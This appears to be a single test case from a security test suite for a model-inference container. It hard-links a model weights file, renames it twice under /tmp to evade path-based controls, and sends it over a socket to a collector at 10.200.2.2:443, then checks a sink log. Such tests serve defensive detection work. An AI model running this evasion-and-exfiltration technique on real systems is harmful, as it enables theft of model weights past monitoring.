# VK6 EXF-001 a hard link renamed twice outside the model roots, then read and sent with dd | python
ctr_run simctr-infer-vk6 ctr-infer --mount --pid --fork --mount-proc -- sh -c '
  ln $0 /tmp/vk6.a && mv /tmp/vk6.a /tmp/vk6.b && mv /tmp/vk6.b /tmp/vk6.cache && python3 -c "
import socket
s = socket.create_connection((\"10.200.2.2\", 443))
s.sendall(open(\"/tmp/vk6.cache\", \"rb\").read()); s.close(); print(\"sent the cache\")"
  rm -f /tmp/vk6.cache' "$H/models/llama-3-8b-instruct/model-00001-of-00001.safetensors"
grep ':443' "$H/sink.log" | tail -1
